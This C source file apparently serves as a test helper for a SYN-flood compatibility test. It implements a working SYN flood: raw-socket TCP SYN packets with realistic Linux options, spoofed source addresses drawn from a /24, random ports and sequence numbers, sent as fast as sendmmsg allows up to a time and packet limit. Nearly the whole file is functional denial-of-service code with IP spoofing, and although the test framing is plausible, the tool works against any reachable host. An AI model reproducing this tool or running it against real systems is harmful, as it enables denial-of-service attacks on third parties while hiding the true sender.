// A SYN flood from a raw socket, for compat-tests/test-syn-flood.sh: TCP SYNs (with an MSS,
// SACK-permitted, timestamps and window scale option, as a real client sends) to DST:PORT from
// spoofed sources: random hosts of a /24 (leaving out the addresses given with -x), random
// ports and sequence numbers, as fast as sendmmsg(2) on one raw socket sends them, for at most
// SECONDS and COUNT packets. Prints "synflood: N packets in S s (R/s)" at the end.
//
//   synflood DST PORT SUBNET/24 SECONDS COUNT [-x ADDRESS]...
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, TCP_OPTIONS = 20, PACKET = 20 + 20 + TCP_OPTIONS };

static uint64_t state = 0x9E3779B97F4A7C15ull;
static uint32_t next_random(void) {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return (uint32_t)(state >> 16);
}

static double now_seconds(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint32_t sum16(const void *data, size_t length, uint32_t sum) {
    const uint8_t *bytes = data;
    for (size_t i = 0; i + 1 < length; i += 2) sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
    if (length & 1) sum += (uint32_t)(bytes[length - 1] << 8);
    return sum;
}

static uint16_t fold(uint32_t sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

// Writes one SYN from source:port to destination:dport into packet.
static void build(uint8_t *packet, uint32_t source, uint32_t destination, uint16_t sport, uint16_t dport) {
    memset(packet, 0, PACKET);
    struct iphdr *ip = (struct iphdr *)packet;
    ip->version = 4;
    ip->ihl = 5;
    ip->tot_len = htons(PACKET);
    ip->id = htons((uint16_t)next_random());
    ip->frag_off = htons(IP_DF);
    ip->ttl = 64;
    ip->protocol = IPPROTO_TCP;
    ip->saddr = source;
    ip->daddr = destination;
    ip->check = fold(sum16(ip, 20, 0));
    struct tcphdr *tcp = (struct tcphdr *)(packet + 20);
    tcp->source = htons(sport);
    tcp->dest = htons(dport);
    tcp->seq = htonl(next_random());
    tcp->doff = (20 + TCP_OPTIONS) / 4;
    tcp->syn = 1;
    tcp->window = htons(64240);
    uint8_t *option = packet + 40;
    uint32_t stamp = next_random();
    // MSS 1460, SACK permitted, timestamps, NOP, window scale 7: what Linux sends.
    const uint8_t options[TCP_OPTIONS] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, (uint8_t)(stamp >> 24),
                                          (uint8_t)(stamp >> 16), (uint8_t)(stamp >> 8), (uint8_t)stamp,
                                          0, 0, 0, 0, 1, 3, 3, 7};
    memcpy(option, options, TCP_OPTIONS);
    uint8_t pseudo[12];
    memcpy(pseudo, &source, 4);
    memcpy(pseudo + 4, &destination, 4);
    pseudo[8] = 0;
    pseudo[9] = IPPROTO_TCP;
    pseudo[10] = 0;
    pseudo[11] = 20 + TCP_OPTIONS;
    tcp->check = fold(sum16(tcp, 20 + TCP_OPTIONS, sum16(pseudo, 12, 0)));
}

int main(int argc, char **argv) {
    if (argc < 6) {
        fprintf(stderr, "usage: synflood DST PORT SUBNET/24 SECONDS COUNT [-x ADDRESS]...\n");
        return 2;
    }
    struct in_addr destination, subnet;
    if (inet_pton(AF_INET, argv[1], &destination) != 1) return fprintf(stderr, "synflood: bad DST\n"), 2;
    uint16_t port = (uint16_t)atoi(argv[2]);
    char *slash = strchr(argv[3], '/');
    if (slash) *slash = 0;
    if (inet_pton(AF_INET, argv[3], &subnet) != 1) return fprintf(stderr, "synflood: bad SUBNET\n"), 2;
    double seconds = atof(argv[4]);
    long limit = atol(argv[5]);
    uint8_t excluded[256] = {0, [255] = 1};
    excluded[0] = 1;
    for (int i = 6; i + 1 < argc; i += 2) {
        struct in_addr address;
        if (strcmp(argv[i], "-x") != 0 || inet_pton(AF_INET, argv[i + 1], &address) != 1)
            return fprintf(stderr, "synflood: bad -x\n"), 2;
        excluded[ntohl(address.s_addr) & 0xff] = 1;
    }
    excluded[ntohl(destination.s_addr) & 0xff] = 1;
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) return perror("synflood: socket"), 1;
    int one = 1;
    setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof one);
    state ^= (uint64_t)getpid() << 32 ^ (uint64_t)time(NULL);

    static uint8_t packets[BATCH][PACKET];
    struct iovec iov[BATCH];
    struct mmsghdr messages[BATCH];
    struct sockaddr_in target = {.sin_family = AF_INET, .sin_addr = destination};
    for (int i = 0; i < BATCH; i++) {
        iov[i] = (struct iovec){.iov_base = packets[i], .iov_len = PACKET};
        messages[i] = (struct mmsghdr){
            .msg_hdr = {.msg_name = &target, .msg_namelen = sizeof target, .msg_iov = &iov[i], .msg_iovlen = 1}};
    }
    uint32_t base = ntohl(subnet.s_addr) & 0xffffff00u;
    long sent = 0;
    double start = now_seconds(), end = start + seconds;
    while (sent < limit && now_seconds() < end) {
        int count = BATCH;
        if (limit - sent < count) count = (int)(limit - sent);
        for (int i = 0; i < count; i++) {
            uint32_t host;
            do host = next_random() & 0xff;
            while (excluded[host]);
            build(packets[i], htonl(base | host), destination.s_addr, (uint16_t)(1024 + next_random() % 64000), port);
        }
        int n = sendmmsg(fd, messages, (unsigned)count, 0);
        if (n < 0) {
            if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR) continue;
            perror("synflood: sendmmsg");
            return 1;
        }
        sent += n;
    }
    double elapsed = now_seconds() - start;
    printf("synflood: %ld packets in %.2f s (%.0f/s)\n", sent, elapsed, elapsed > 0 ? sent / elapsed : 0.0);
    return 0;
}
